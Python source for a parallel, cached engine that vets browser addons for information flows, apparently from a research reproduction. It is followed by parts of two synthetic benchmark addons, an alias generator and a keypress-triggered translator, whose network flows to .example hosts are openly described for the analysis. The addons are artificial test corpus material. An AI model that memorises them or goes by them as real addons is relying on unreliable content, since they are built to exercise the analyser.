    the CI fault job surface, so a robustness regression (new failure
    kind, growing degraded count) shows up in the numbers rather than in
    scrollback."""
    failures: dict[str, int] = {}
    degradation_kinds: dict[str, int] = {}
    diff_verdicts: dict[str, int] = {}
    pool_retry_attempts: dict[str, int] = {}
    cache_quarantined = 0
    pool_retries = 0
    for outcome in outcomes:
        if not outcome.ok:
            # Untyped failures (no FailureKind attached — e.g. an
            # all-poison generated shard) still count in the per-kind
            # breakdown, as ``unclassified``, so ``sum(failures
            # .values()) == failed`` holds even when nothing vetted
            # cleanly.
            kind = outcome.failure or "unclassified"
            failures[kind] = failures.get(kind, 0) + 1
        for kind in outcome.degradation_kinds:
            degradation_kinds[kind] = degradation_kinds.get(kind, 0) + 1
        if outcome.diff_verdict is not None:
            diff_verdicts[outcome.diff_verdict] = (
                diff_verdicts.get(outcome.diff_verdict, 0) + 1
            )
        cache_quarantined += outcome.counters.get("cache_quarantined", 0)
        retried = outcome.counters.get("pool_retries", 0)
        pool_retries += retried
        if retried:
            bucket = str(retried)
            pool_retry_attempts[bucket] = pool_retry_attempts.get(bucket, 0) + 1
    certifications = {
        "attempted": sum(
            o.counters.get("certification_attempted", 0) for o in outcomes
        ),
        "skipped": sum(
            o.counters.get("certification_skipped", 0) for o in outcomes
        ),
    }
    preanalysis = {
        "resolved_sites": sum(
            o.counters.get("resolved_sites", 0) for o in outcomes
        ),
        "residual_dynamic_sites": sum(
            o.counters.get("residual_dynamic_sites", 0) for o in outcomes
        ),
        "pruned_nodes": sum(
            o.counters.get("pruned_nodes", 0) for o in outcomes
        ),
        "callgraph_edges": sum(
            o.counters.get("callgraph_edges", 0) for o in outcomes
        ),
        "pruned_addons": sum(
            1 for o in outcomes if o.counters.get("pruned_nodes", 0)
        ),
    }
    return {
        "total": len(outcomes),
        "ok": sum(1 for o in outcomes if o.ok),
        "failed": sum(1 for o in outcomes if not o.ok),
        "degraded": sum(1 for o in outcomes if o.degraded),
        "prefiltered": sum(1 for o in outcomes if o.prefiltered),
        "incremental": sum(1 for o in outcomes if o.incremental),
        # Fast-lane certification economics: how many updates attempted
        # the change-surface certificate vs. skipped it on the cost gate.
        "certifications": certifications,
        # Pre-analysis aggregates: computed sites resolved vs. residual,
        # nodes pruned before lowering, call-graph edge count.
        "preanalysis": preanalysis,
        "cached": sum(1 for o in outcomes if o.cached),
        "failures": dict(sorted(failures.items())),
        "degradation_kinds": dict(sorted(degradation_kinds.items())),
        "diff_verdicts": dict(sorted(diff_verdicts.items())),
        "cache_quarantined": cache_quarantined,
        "pool_retries": pool_retries,
        # How many tasks needed exactly N pool re-executions — the
        # retry policy's per-attempt breakdown ({} = no worker deaths).
        "pool_retry_attempts": dict(sorted(pool_retry_attempts.items())),
    }


def parallel_map(fn, items, *, workers: int | None = None) -> list:
    """Order-preserving parallel map over a picklable, module-level
    function (used by the cheap corpus sweeps, e.g. Table 1 sizing).
    Falls back to a plain map when only one worker is available."""
    items = list(items)
    worker_count = _resolve_workers(workers, len(items))
    if worker_count <= 1 or len(items) <= 1:
        return [fn(item) for item in items]
    try:
        with ProcessPoolExecutor(max_workers=worker_count) as executor:
            return list(executor.map(_parallel_map_worker, [(fn, item) for item in items]))
    except (OSError, ValueError):
        return [fn(item) for item in items]
