"""The parallel corpus vetting engine.

Batch-mode static vetting makes the corpus dimension embarrassingly
parallel: every addon's pipeline (P1 base analysis, P2 annotated PDG, P3
signature inference) is independent of every other addon's, so
:func:`vet_many` fans the corpus out over a ``ProcessPoolExecutor`` with

- **per-addon isolation with typed outcomes** — a parse error becomes a
  typed failure (:class:`repro.faults.FailureKind`), a blown analysis
  budget (fixpoint steps, cooperative wall-clock deadline, abstract
  states) *degrades* to a sound ⊤-widened signature flagged
  ``degraded``, a broken pool re-runs its stranded tasks in-process,
  and a corrupt cache entry is quarantined — nothing one addon does
  kills the batch or goes unreported (:func:`summarize` gives the
  per-kind breakdown);
- **an on-disk result cache** keyed by ``(sha256(source), k, spec
  fingerprint, engine/repro version)`` — re-vetting an unchanged addon
  under an unchanged policy is a cache hit, which is what makes a
  vetting *service* cheap under heavy re-submission traffic;
- **deterministic outcomes** — a :class:`VetOutcome` is a compact,
  JSON-serializable summary (canonical signature text, verdict, phase
  times, hot-path counters), so parallel, sequential, and cached runs
  are directly comparable (and tested to be identical).

The evaluation harness (Table 1/2, the timing protocol, ``addon-sig
bench``) is built on this engine; :func:`vet_corpus` is the
corpus-shaped convenience entry.
"""

from __future__ import annotations

import dataclasses
import hashlib
import json
import os
import tempfile
from concurrent.futures import ProcessPoolExecutor
from concurrent.futures import TimeoutError as FutureTimeoutError
from dataclasses import dataclass, field
from pathlib import Path

import repro
from repro.faults import Budget, FailureKind, classify_exception
from repro.perf import median_times
from repro.signatures.spec import SecuritySpec

#: Bump when the pipeline's observable output changes (invalidates every
#: cached outcome, together with ``repro.__version__``).
#: v3: the relevance prefilter joined the pipeline (outcomes carry
#: ``prefiltered`` and the cache key the prefilter switch).
ENGINE_VERSION = 3


# ----------------------------------------------------------------------
# Tasks and outcomes


@dataclass(frozen=True)
class VetTask:
    """One unit of batch vetting work (picklable, immutable)."""

    name: str
    source: str
    k: int = 1
    #: Timing runs; with ``runs > 1`` the first run is discarded and the
    #: per-phase median of the rest is reported (the paper's protocol).
    runs: int = 1
    #: Manual signature text to compare against (Table 2 methodology).
    manual_text: str | None = None
    real_extras_text: str = ""
    #: Fixpoint step budget; ``None`` = the interpreter default. A blown
    #: budget degrades the outcome (sound ⊤-widened signature) rather
    #: than failing it.
    max_steps: int | None = None
    #: Skip unparseable top-level statements and vet the remainder
    #: (degraded outcome) instead of failing on the first parse error.
    recover: bool = False
    #: Run the sound relevance prefilter first: an addon whose syntactic
    #: surface cannot reach the spec gets the trivially-empty signature
    #: without the interpreter (bit-identical results either way; see
    #: ``repro.lint.surface``). On by default in batch vetting.
    prefilter: bool = True


@dataclass
class VetOutcome:
    """The compact, serializable result of vetting one addon."""

    name: str
    ok: bool
    error: str | None = None
    #: Typed failure classification (a :class:`repro.faults.FailureKind`
    #: value) when ``ok`` is false; ``error`` keeps the human detail.
    failure: str | None = None
    #: True when the run completed but had to degrade (budget trip,
    #: skipped statements): the signature is sound but ⊤-widened.
    degraded: bool = False
    #: The degradation events, as ``{"kind": ..., "detail": ...}``.
    degradations: list[dict] = field(default_factory=list)
    #: Canonical (sorted) rendering of the inferred signature.
    signature_text: str = ""
    verdict: str | None = None
    extra_entries: list[str] = field(default_factory=list)
    missing_entries: list[str] = field(default_factory=list)
    ast_nodes: int = 0
    #: Median phase times in seconds: {"p1": ..., "p2": ..., "p3": ...}.
    times: dict[str, float] | None = None
    #: Hot-path counters of the (last) run.
    counters: dict[str, int] = field(default_factory=dict)
    #: True when the relevance prefilter proved the addon trivially
    #: safe and the interpreter never ran for it.
    prefiltered: bool = False
    #: True when this outcome was served from the on-disk cache.
    cached: bool = False

    @property
    def total_time(self) -> float:
        return sum((self.times or {}).values())

    @property
    def degradation_kinds(self) -> list[str]:
        """The distinct degradation kinds of this outcome, sorted."""
        return sorted({d["kind"] for d in self.degradations})

    def to_json(self) -> dict:
        data = dataclasses.asdict(self)
        data.pop("cached")  # a property of the lookup, not the result
        return data

    @classmethod
    def from_json(cls, data: dict, cached: bool = False) -> "VetOutcome":
        known = {f.name for f in dataclasses.fields(cls)}
        outcome = cls(**{k: v for k, v in data.items() if k in known})
        outcome.cached = cached
        return outcome


# ----------------------------------------------------------------------
# Cache


def default_cache_dir() -> Path:
    """``$ADDON_SIG_CACHE`` > ``$XDG_CACHE_HOME/addon-sig`` >
    ``~/.cache/addon-sig``."""
    override = os.environ.get("ADDON_SIG_CACHE")
    if override:
        return Path(override)
    xdg = os.environ.get("XDG_CACHE_HOME")
    base = Path(xdg) if xdg else Path.home() / ".cache"
    return base / "addon-sig"


def _canonical(obj: object) -> object:
    """A deterministic, JSON-able projection of a (frozen-dataclass)
    security spec — frozensets sorted, dataclasses tagged by class."""
    if dataclasses.is_dataclass(obj) and not isinstance(obj, type):
        return [
            type(obj).__name__,
            {
                f.name: _canonical(getattr(obj, f.name))
                for f in dataclasses.fields(obj)
            },
        ]
    if isinstance(obj, (set, frozenset)):
        return sorted(_canonical(item) for item in obj)  # type: ignore[type-var]
    if isinstance(obj, (list, tuple)):
        return [_canonical(item) for item in obj]
    return obj


def spec_fingerprint(spec: SecuritySpec | None) -> str:
    """A stable hash of a security spec (``None`` = the default Mozilla
    spec, fingerprinted by name so the default can evolve with the
    version stamp rather than an import)."""
    if spec is None:
        return "mozilla-default"
    payload = json.dumps(_canonical(spec), sort_keys=True)
    return hashlib.sha256(payload.encode("utf-8")).hexdigest()


def cache_key(task: VetTask, spec: SecuritySpec | None) -> str:
    """The on-disk cache key: source bytes, sensitivity, spec, manual
    comparison inputs, timing protocol, and the code version."""
    payload = json.dumps(
        {
            "engine": ENGINE_VERSION,
            "repro": repro.__version__,
            "source": hashlib.sha256(task.source.encode("utf-8")).hexdigest(),
            "k": task.k,
            "runs": task.runs,
            "spec": spec_fingerprint(spec),
            "manual": task.manual_text,
            "extras": task.real_extras_text,
            "max_steps": task.max_steps,
            "recover": task.recover,
            "prefilter": task.prefilter,
        },
        sort_keys=True,
    )
    return hashlib.sha256(payload.encode("utf-8")).hexdigest()


def _cache_load(
    cache_dir: Path, key: str, name: str
) -> tuple[VetOutcome | None, bool]:
    """Load one cache entry. Returns ``(outcome, quarantined)``.

    An unreadable *file* (absent, permission) is a plain miss. A file
    that reads but does not decode into an outcome — truncated JSON,
    garbage bytes, a foreign schema — is *corrupt*: it is renamed to
    ``<key>.corrupt`` so it never masquerades as a miss again (and can
    be inspected), and the quarantine is reported via the recomputed
    outcome's counters."""
    path = cache_dir / f"{key}.json"
    try:
        text = path.read_text(encoding="utf-8")
    except OSError:
        return None, False  # absent: a plain miss
    try:
        data = json.loads(text)
        outcome = VetOutcome.from_json(data, cached=True)
    except Exception:  # corrupt on disk: quarantine, never re-trip
        try:
            path.rename(path.with_suffix(".corrupt"))
        except OSError:
            pass  # a read-only cache cannot quarantine; still a miss
        return None, True
    outcome.name = name  # the same source may be vetted under any name
    return outcome, False


def _cache_store(cache_dir: Path, key: str, outcome: VetOutcome) -> None:
    try:
        cache_dir.mkdir(parents=True, exist_ok=True)
        # Atomic publish: never expose a half-written entry.
        fd, tmp_path = tempfile.mkstemp(dir=cache_dir, suffix=".tmp")
        with os.fdopen(fd, "w", encoding="utf-8") as handle:
            json.dump(outcome.to_json(), handle)
        os.replace(tmp_path, cache_dir / f"{key}.json")
    except OSError:
        pass  # a read-only cache directory must not fail the batch


# ----------------------------------------------------------------------
# Workers (module-level: picklable for the process pool)


def _task_budget(task: VetTask, timeout: float | None) -> Budget | None:
    """The per-run cooperative budget of a task; ``None`` means the
    interpreter default (steps-only)."""
    if timeout is None and task.max_steps is None:
        return None
    return Budget(
        max_steps=task.max_steps if task.max_steps is not None else 400_000,
        max_seconds=timeout,
    )


def _execute_task(
    task: VetTask, spec: SecuritySpec | None, timeout: float | None = None
) -> VetOutcome:
    """Vet one addon, with the paper's timing protocol when ``runs > 1``.
    Never raises: every failure becomes a *typed* failure outcome, every
    budget trip a *degraded* outcome.

    ``timeout`` is the per-run wall-clock budget, enforced cooperatively
    inside the analysis fixpoint — so it is honored identically whether
    this runs in a pool worker or in-process."""
    from repro.api import vet
    from repro.signatures import parse_signature

    try:
        manual = (
            parse_signature(task.manual_text)
            if task.manual_text is not None
            else None
        )
        extras = (
            frozenset(parse_signature(task.real_extras_text).entries)
            if task.real_extras_text
            else frozenset()
        )
        budget = _task_budget(task, timeout)
        samples = []
        report = None
        for _ in range(max(1, task.runs)):
            report = vet(
                task.source, manual=manual, real_extras=extras,
                spec=spec, k=task.k, budget=budget, recover=task.recover,
                prefilter=task.prefilter,
            )
            samples.append(report.phase_times)
            if report.degraded:
                # Extra timing runs of a degraded pipeline are wasted
                # wall clock (and a time-tripped run would trip again).
                break
        assert report is not None and report.phase_times is not None
        times = median_times(samples)
        comparison = report.comparison
        return VetOutcome(
            name=task.name,
            ok=True,
            degraded=report.degraded,
            degradations=[d.to_json() for d in report.degradations],
            signature_text=report.signature.render(),
            verdict=comparison.verdict.value if comparison is not None else None,
            extra_entries=(
                sorted(entry.render() for entry in comparison.extra)
                if comparison is not None else []
            ),
            missing_entries=(
                sorted(entry.render() for entry in comparison.missing)
                if comparison is not None else []
            ),
            ast_nodes=report.ast_nodes,
            times={"p1": times.p1, "p2": times.p2, "p3": times.p3},
            counters=dict(report.counters),
            prefiltered=report.prefiltered,
        )
    except Exception as exc:  # isolation: one bad addon never kills a batch
        return VetOutcome(
            name=task.name, ok=False,
            failure=classify_exception(exc).value,
            error=f"{type(exc).__name__}: {exc}",
        )


def _parallel_map_worker(payload: tuple) -> object:
    fn, item = payload
    return fn(item)


# ----------------------------------------------------------------------
# The engine


def _normalize(items, k: int, runs: int, prefilter: bool) -> list[VetTask]:
    tasks: list[VetTask] = []
    for index, item in enumerate(items):
        if isinstance(item, VetTask):
            tasks.append(item)
        else:
            tasks.append(VetTask(
                name=f"addon-{index}", source=item, k=k, runs=runs,
                prefilter=prefilter,
            ))
    return tasks


def _resolve_workers(workers: int | None, pending: int) -> int:
    if workers is not None:
        return max(1, workers)
    return max(1, min(pending, os.cpu_count() or 1))


def vet_many(
    items,
    *,
    spec: SecuritySpec | None = None,
    k: int = 1,
    runs: int = 1,
    workers: int | None = None,
    use_cache: bool = True,
    cache_dir: str | os.PathLike | None = None,
    timeout: float | None = None,
    prefilter: bool = True,
) -> list[VetOutcome]:
    """Vet many addons, in parallel, with caching and error isolation.

    ``items`` — :class:`VetTask` objects, or plain source strings (named
    ``addon-N``; ``k``/``runs``/``prefilter`` apply to string items
    only).
    ``prefilter`` — run the sound relevance prefilter before the full
    pipeline (on by default): spec-irrelevant addons come back with the
    trivially-empty signature and ``outcome.prefiltered`` set, without
    the interpreter ever running. Results are bit-identical with the
    prefilter off.
    ``workers`` — process count; ``None`` = one per CPU (capped at the
    task count); ``1`` = run in-process (no pool).
    ``timeout`` — per-run wall-clock budget in seconds, enforced
    *cooperatively* inside the analysis fixpoint, so it is honored by
    in-process runs and pool workers alike. A timed-out run degrades to
    a sound ⊤-widened signature; a hard pool-level backstop (for work
    wedged outside the fixpoint) yields a ``budget-time`` failure.

    Returns one outcome per item, in input order. Failures are typed
    (:class:`repro.faults.FailureKind` in ``outcome.failure``) and
    degradations flagged (``outcome.degraded``) — nothing in here
    raises for a bad addon. Use :func:`summarize` for the per-kind
    breakdown of a batch.
    """
    tasks = _normalize(items, k=k, runs=runs, prefilter=prefilter)
    directory = Path(cache_dir) if cache_dir is not None else default_cache_dir()

    outcomes: dict[int, VetOutcome] = {}
    quarantined: set[int] = set()
    pending: list[tuple[int, VetTask, str | None]] = []
    for index, task in enumerate(tasks):
        key = cache_key(task, spec) if use_cache else None
        if key is not None:
            hit, corrupt = _cache_load(directory, key, task.name)
            if corrupt:
                quarantined.add(index)
            if hit is not None:
                outcomes[index] = hit
                continue
        pending.append((index, task, key))

    if pending:
        worker_count = _resolve_workers(workers, len(pending))
        # A single miss (or workers=1) runs in-process; the cooperative
        # budget enforces ``timeout`` there just as in a pool worker.
        if worker_count <= 1 or len(pending) <= 1:
            fresh = [(index, key, _execute_task(task, spec, timeout))
                     for index, task, key in pending]
        else:
            fresh = _run_pool(pending, spec, worker_count, timeout)
        for index, key, outcome in fresh:
            if index in quarantined:
                # Surface the quarantine once, on the recomputed outcome.
                outcome.counters["cache_quarantined"] = (
                    outcome.counters.get("cache_quarantined", 0) + 1
                )
            outcomes[index] = outcome
            # Degraded outcomes are machine/load-dependent (a deadline
            # that tripped here may not trip elsewhere): never cache.
            if key is not None and outcome.ok and not outcome.degraded:
                _cache_store(directory, key, outcome)

    return [outcomes[index] for index in range(len(tasks))]


def _hard_timeout(task: VetTask, timeout: float | None) -> float | None:
    """The pool-level backstop for one task: the cooperative per-run
    deadline normally fires first, so this only catches work wedged
    outside the fixpoint loop (parsing, PDG, inference, a stuck
    worker). Generous by design: runs x timeout plus grace."""
    if timeout is None:
        return None
    return timeout * max(1, task.runs) + 10.0


def _run_pool(
    pending: list[tuple[int, VetTask, str | None]],
    spec: SecuritySpec | None,
    worker_count: int,
    timeout: float | None,
) -> list[tuple[int, str | None, VetOutcome]]:
    """Fan pending tasks over a process pool.

    Failure containment, in order of preference:

    - a worker that *returns* never raises (:func:`_execute_task`), so
      per-task faults arrive as typed failure / degraded outcomes;
    - a task that outlives its hard backstop becomes a ``budget-time``
      failure outcome;
    - a broken pool (a worker process died) strands every task whose
      future it poisoned — those are re-run sequentially in-process
      rather than erroring the rest of the corpus;
    - a pool that cannot be created at all (no fork/semaphores) falls
      back to sequential in-process execution.
    """
    from concurrent.futures.process import BrokenProcessPool

    results: list[tuple[int, str | None, VetOutcome]] = []
    stranded: list[tuple[int, VetTask, str | None]] = []
    try:
        executor = ProcessPoolExecutor(max_workers=worker_count)
    except (OSError, ValueError):  # no fork/semaphores available here
        return [(index, key, _execute_task(task, spec, timeout))
                for index, task, key in pending]
    pool_broke = False
    try:
        futures = [
            (index, task, key, executor.submit(_execute_task, task, spec, timeout))
            for index, task, key in pending
        ]
        for position, (index, task, key, future) in enumerate(futures):
            try:
                results.append(
                    (index, key, future.result(timeout=_hard_timeout(task, timeout)))
                )
            except FutureTimeoutError:
                future.cancel()
                results.append((
                    index, key,
                    VetOutcome(
                        name=task.name, ok=False,
                        failure=FailureKind.BUDGET_TIME.value,
                        error=f"timeout: exceeded {timeout}s wall-clock budget",
                    ),
                ))
            except BrokenProcessPool:
                # The pool is dead: every remaining future is poisoned.
                # Strand them all for a sequential in-process retry.
                pool_broke = True
                stranded.extend(
                    (s_index, s_task, s_key)
                    for s_index, s_task, s_key, _ in futures[position:]
                )
                break
            except Exception as exc:  # e.g. an unpicklable result
                results.append((
                    index, key,
                    VetOutcome(
                        name=task.name, ok=False,
                        failure=classify_exception(exc).value,
                        error=f"{type(exc).__name__}: {exc}",
                    ),
                ))
    finally:
        # Don't block on workers wedged past their timeout.
        executor.shutdown(
            wait=timeout is None and not pool_broke, cancel_futures=True
        )
    for index, task, key in stranded:
        outcome = _execute_task(task, spec, timeout)
        outcome.counters["pool_retries"] = (
            outcome.counters.get("pool_retries", 0) + 1
        )
        results.append((index, key, outcome))
    return results


def vet_corpus(
    specs=None,
    *,
    k: int = 1,
    runs: int = 1,
    workers: int | None = None,
    use_cache: bool = True,
    cache_dir: str | os.PathLike | None = None,
    timeout: float | None = None,
    max_steps: int | None = None,
    recover: bool = False,
    prefilter: bool = True,
) -> list[VetOutcome]:
    """Vet the benchmark corpus (or a subset) through the batch engine,
    carrying each addon's manual signature so outcomes include the
    pass/fail/leak verdict. ``timeout``/``max_steps``/``recover`` apply
    the engine's fault-tolerance knobs to every addon; see
    :func:`vet_many`."""
    from repro.addons import CORPUS

    chosen = list(specs) if specs is not None else list(CORPUS)
    tasks = [
        VetTask(
            name=spec.name,
            source=spec.source(),
            k=k,
            runs=runs,
            manual_text=spec.manual_signature_text,
            real_extras_text=spec.real_extras_text,
            max_steps=max_steps,
            recover=recover,
            prefilter=prefilter,
        )
        for spec in chosen
    ]
    return vet_many(
        tasks, workers=workers, use_cache=use_cache,
        cache_dir=cache_dir, timeout=timeout,
    )


def summarize(outcomes: list[VetOutcome]) -> dict:
    """The robustness breakdown of a batch: per-kind failure and
    degradation counts, plus the headline totals.

    JSON-shaped; this is what ``table2`` footers, ``bench`` reports, and
    the CI fault job surface, so a robustness regression (new failure
    kind, growing degraded count) shows up in the numbers rather than in
    scrollback."""
    failures: dict[str, int] = {}
    degradation_kinds: dict[str, int] = {}
    cache_quarantined = 0
    pool_retries = 0
    for outcome in outcomes:
        if not outcome.ok and outcome.failure is not None:
            failures[outcome.failure] = failures.get(outcome.failure, 0) + 1
        for kind in outcome.degradation_kinds:
            degradation_kinds[kind] = degradation_kinds.get(kind, 0) + 1
        cache_quarantined += outcome.counters.get("cache_quarantined", 0)
        pool_retries += outcome.counters.get("pool_retries", 0)
    return {
        "total": len(outcomes),
        "ok": sum(1 for o in outcomes if o.ok),
        "failed": sum(1 for o in outcomes if not o.ok),
        "degraded": sum(1 for o in outcomes if o.degraded),
        "prefiltered": sum(1 for o in outcomes if o.prefiltered),
        "cached": sum(1 for o in outcomes if o.cached),
        "failures": dict(sorted(failures.items())),
        "degradation_kinds": dict(sorted(degradation_kinds.items())),
        "cache_quarantined": cache_quarantined,
        "pool_retries": pool_retries,
    }


def parallel_map(fn, items, *, workers: int | None = None) -> list:
    """Order-preserving parallel map over a picklable, module-level
    function (used by the cheap corpus sweeps, e.g. Table 1 sizing).
    Falls back to a plain map when only one worker is available."""
    items = list(items)
    worker_count = _resolve_workers(workers, len(items))
    if worker_count <= 1 or len(items) <= 1:
        return [fn(item) for item in items]
    try:
        with ProcessPoolExecutor(max_workers=worker_count) as executor:
            return list(executor.map(_parallel_map_worker, [(fn, item) for item in items]))
    except (OSError, ValueError):
        return [fn(item) for item in items]
