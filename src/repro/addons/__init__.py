"""The benchmark addon corpus (synthetic recreations of Table 1)."""

from repro.addons.corpus import BY_NAME, CORPUS, AddonSpec, load_source, vet_addon

__all__ = ["CORPUS", "BY_NAME", "AddonSpec", "load_source", "vet_addon"]
