// LessSpamPlease — generates a reusable anonymous e-mail address for the
// site you are visiting.
//
// Category A: sending the current site to the alias service is the whole
// point. The addon load-balances between the primary API host and a
// mirror, and the two host names share no common prefix — so the prefix
// string domain joins them to 'https://' and the inferred network domain
// is imprecise. That is the paper's "fail" row: source, sink, and flow
// type are right, only the domain is lost.

var PRIMARY_HOST = "api.lesspam.example/v2/alias/new?site=";
var MIRROR_HOST = "mirror-lsp.example/v2/alias/new?site=";
var SCHEME = "https://";
var MAX_HISTORY_ENTRIES = 50;
var MAX_ALIAS_LENGTH = 64;

var aliasManager = {
  field: null,
  historyMenu: null,
  statusLabel: null,
  useMirror: false,
  requestCount: 0,
  mirrorFailures: 0,
  history: [],

  init: function () {
    this.field = document.getElementById("lsp-alias-field");
    this.historyMenu = document.getElementById("lsp-history-menu");
    this.statusLabel = document.getElementById("lsp-status");
    var button = document.getElementById("lsp-generate-button");
    if (button) {
      button.addEventListener("command", onGenerateClick, false);
    }
    var copyButton = document.getElementById("lsp-copy-button");
    if (copyButton) {
      copyButton.addEventListener("command", onCopyClick, false);
    }
    this.useMirror = loadMirrorPreference();
  },

  setStatus: function (message) {
    if (this.statusLabel) {
      this.statusLabel.textContent = message;
    }
  },

  record: function (site, alias) {
    this.history.push({ site: site, alias: alias });
    if (this.history.length > MAX_HISTORY_ENTRIES) {
      this.history.shift();
    }
    this.requestCount = this.requestCount + 1;
    if (this.field) {
      this.field.value = alias;
    }
    this.refreshHistoryMenu();
    this.setStatus("Alias ready (" + this.requestCount + " generated so far)");
  },

  refreshHistoryMenu: function () {
    if (!this.historyMenu) {
      return;
    }
    this.historyMenu.textContent = "";
    for (var i = this.history.length - 1; i >= 0; i--) {
      var entry = this.history[i];
      var item = document.createElement("menuitem");
      item.setAttribute("label", entry.alias);
      item.setAttribute("tooltiptext", formatHistoryTooltip(entry));
      this.historyMenu.appendChild(item);
    }
  },

  findExisting: function (site) {
    for (var i = 0; i < this.history.length; i++) {
      if (this.history[i].site == site) {
        return this.history[i].alias;
      }
    }
    return null;
  },

  serviceHost: function () {
    // Spread load: every other request goes to the mirror, unless the
    // mirror has been failing.
    if (this.mirrorFailures >= 3) {
      return PRIMARY_HOST;
    }
    if (this.useMirror && this.requestCount % 2 == 1) {
      return MIRROR_HOST;
    }
    return PRIMARY_HOST;
  }
};

function loadMirrorPreference() {
  var pref = Services.prefs.getCharPref("extensions.lesspam.usemirror");
  return pref == "true";
}

function formatHistoryTooltip(entry) {
  var tip = "generated for " + entry.site;
  if (entry.alias.indexOf("@") != -1) {
    var at = entry.alias.indexOf("@");
    tip = tip + " (inbox " + entry.alias.substring(0, at) + ")";
  }
  return tip;
}

function countAliasesFor(history, site) {
  var count = 0;
  for (var i = 0; i < history.length; i++) {
    if (history[i].site == site) {
      count = count + 1;
    }
  }
  return count;
}

function siteKey(url) {
  // Normalize to scheme+host so one alias covers a whole site.
  var schemeEnd = url.indexOf("://");
  if (schemeEnd == -1) {
    return url;
  }
  var pathStart = url.indexOf("/", schemeEnd + 3);
  if (pathStart == -1) {
    return url;
  }
  return url.substring(0, pathStart);
}

function describeService(host) {
  if (host == MIRROR_HOST) {
    return "mirror";
  }
  return "primary";
}

function validateAlias(alias) {
  if (!alias) {
    return false;
  }
  if (alias.length > MAX_ALIAS_LENGTH) {
    return false;
  }
  if (alias.indexOf("@") == -1) {
    return false;
  }
  if (alias.indexOf(" ") != -1) {
    return false;
  }
  return true;
}

function parseAlias(body) {
  var marker = body.indexOf("\"alias\":\"");
  if (marker == -1) {
    return "";
  }
  var start = marker + 9;
  var end = body.indexOf("\"", start);
  if (end == -1) {
    return "";
  }
  return body.substring(start, end);
}

function parseErrorMessage(body) {
  var marker = body.indexOf("\"error\":\"");
  if (marker == -1) {
    return "unknown error";
  }
  var start = marker + 9;
  var end = body.indexOf("\"", start);
  if (end == -1) {
    return "unknown error";
  }
  return body.substring(start, end);
}

function requestAlias(site) {
  var host = aliasManager.serviceHost();
  var endpoint = SCHEME + host + encodeURIComponent(site);
  var req = new XMLHttpRequest();
  req.open("GET", endpoint, true);
  req.setRequestHeader("Accept", "application/json");
  req.onreadystatechange = function () {
    if (req.readyState != 4) {
      return;
    }
    if (req.status == 200) {
      var alias = parseAlias(req.responseText);
      if (validateAlias(alias)) {
        aliasManager.record(site, alias);
      } else {
        aliasManager.setStatus("Service returned a malformed alias");
      }
    } else if (req.status >= 500 && host == MIRROR_HOST) {
      aliasManager.mirrorFailures = aliasManager.mirrorFailures + 1;
      aliasManager.setStatus("Mirror unavailable: " + parseErrorMessage(req.responseText));
    } else {
      aliasManager.setStatus(
        "Alias " + describeService(host) + " service error " + req.status
      );
    }
  };
  req.send(null);
}

function onGenerateClick(event) {
  var page = content.location.href;
  if (!page || page == "about:blank") {
    aliasManager.setStatus("Open the site you want an alias for first");
    return;
  }
  var site = siteKey(page);
  var existing = aliasManager.findExisting(site);
  if (existing) {
    if (aliasManager.field) {
      aliasManager.field.value = existing;
    }
    var already = countAliasesFor(aliasManager.history, site);
    aliasManager.setStatus(
      "Reusing one of " + already + " alias(es) generated earlier"
    );
    return;
  }
  aliasManager.setStatus("Requesting alias...");
  requestAlias(site);
}

function onCopyClick(event) {
  if (aliasManager.field && aliasManager.field.value) {
    Services.clipboard.setData(aliasManager.field.value);
    aliasManager.setStatus("Alias copied to clipboard");
  }
}

aliasManager.init();
