// HyperTranslate — translates the selected text when the keyboard
// shortcut (Ctrl+Shift+T by default) is pressed.
//
// Category B: whether a request happens at all depends on which keys the
// user presses, so key presses flow *implicitly* to the translation
// service — and since the addon listens for keys continuously, the flow
// is amplified (type3 in the paper's manual signature).

var TRANSLATE_ENDPOINT = "https://translate.google.example/translate_a/single";
var MAX_TEXT_LENGTH = 500;
var MAX_CACHE_ENTRIES = 64;
var SUPPORTED_LANGUAGES = ["en", "fr", "de", "es", "ja", "hi", "pt", "ru"];
var DEFAULT_SHORTCUT = "ctrl+shift+84";  // Ctrl+Shift+T

var hyperTranslate = {
  targetLanguage: "en",
  shortcut: { ctrl: true, shift: true, keyCode: 84 },
  bubble: null,
  languageMenu: null,
  busy: false,
  cache: {},
  cacheSize: 0,

  init: function () {
    this.bubble = document.getElementById("hyper-translate-bubble");
    this.languageMenu = document.getElementById("hyper-translate-languages");
    this.targetLanguage = loadTargetLanguage();
    this.shortcut = loadShortcut();
    this.buildLanguageMenu();
    window.addEventListener("keypress", onKeyPress, false);
  },

  buildLanguageMenu: function () {
    if (!this.languageMenu) {
      return;
    }
    this.languageMenu.textContent = "";
    for (var i = 0; i < SUPPORTED_LANGUAGES.length; i++) {
      var item = document.createElement("menuitem");
      item.setAttribute("label", languageName(SUPPORTED_LANGUAGES[i]));
      item.setAttribute("value", SUPPORTED_LANGUAGES[i]);
      item.addEventListener("command", onLanguagePicked, false);
      this.languageMenu.appendChild(item);
    }
  },

  show: function (translation) {
    if (this.bubble) {
      this.bubble.textContent = translation;
      this.bubble.setAttribute("hidden", "false");
    }
    this.busy = false;
  },

  showError: function (status) {
    if (this.bubble) {
      this.bubble.textContent = "(translation failed: " + status + ")";
    }
    this.busy = false;
  },

  remember: function (text, translation) {
    if (this.cacheSize >= MAX_CACHE_ENTRIES) {
      this.cache = {};
      this.cacheSize = 0;
    }
    this.cache[this.targetLanguage + ":" + text] = translation;
    this.cacheSize = this.cacheSize + 1;
  },

  lookup: function (text) {
    var hit = this.cache[this.targetLanguage + ":" + text];
    if (hit) {
      return hit;
    }
    return null;
  }
};

function languageName(code) {
  switch (code) {
    case "en": return "English";
    case "fr": return "French";
    case "de": return "German";
    case "es": return "Spanish";
    case "ja": return "Japanese";
    case "hi": return "Hindi";
    case "pt": return "Portuguese";
    case "ru": return "Russian";
    default: return code;
  }
}

function loadTargetLanguage() {
  var configured = Services.prefs.getCharPref("extensions.hypertranslate.lang");
  if (!configured) {
    return "en";
  }
  for (var i = 0; i < SUPPORTED_LANGUAGES.length; i++) {
    if (SUPPORTED_LANGUAGES[i] == configured) {
      return configured;
    }
  }
  return "en";
}

function loadShortcut() {
  // Shortcut preference format: "ctrl+shift+<keyCode>".
  var raw = Services.prefs.getCharPref("extensions.hypertranslate.shortcut");
  if (!raw) {
    raw = DEFAULT_SHORTCUT;
  }
  var parsed = { ctrl: false, shift: false, keyCode: 84 };
  var rest = raw;
  var guard = 0;
  while (guard < 4) {
    guard++;
    var plus = rest.indexOf("+");
